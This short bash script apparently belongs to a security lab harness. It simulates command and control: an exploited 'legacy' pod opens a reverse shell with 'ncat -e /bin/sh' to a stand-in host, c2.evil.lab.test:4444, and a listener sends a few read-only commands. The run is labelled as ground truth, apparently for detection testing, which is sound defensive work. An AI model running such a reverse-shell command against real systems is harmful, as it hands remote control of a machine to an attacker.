#!/usr/bin/env bash
# Command and control: the exploited legacy pod opens a reverse shell with ncat to
# c2.evil.lab.test:4444; the operator runs a few read-only commands and leaves.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$EXT_C2_IP"
gt_begin reverse-shell command-and-control ncat pod:legacy "ext:c2.evil.lab.test=$EXT_C2_IP" "ncat -e /bin/sh to c2.evil.lab.test:4444; id, uname -a, hostname"
# The operator's side: a listener that sends the commands, then exit.
lab_exec "$NS_INET" timeout 20 bash -c "{ sleep 1; echo 'id'; sleep 0.5; echo 'uname -a'; sleep 0.5; echo 'hostname'; sleep 0.5; echo 'exit'; sleep 1; } | ncat -l $EXT_C2_IP 4444 >/dev/null" &
lp=$!
sleep 0.5
lab_exec "$(lab_pod_ns legacy)" timeout 15 ncat c2.evil.lab.test 4444 -e /bin/sh || true
wait "$lp" || true
gt_end '{"dport":4444}'
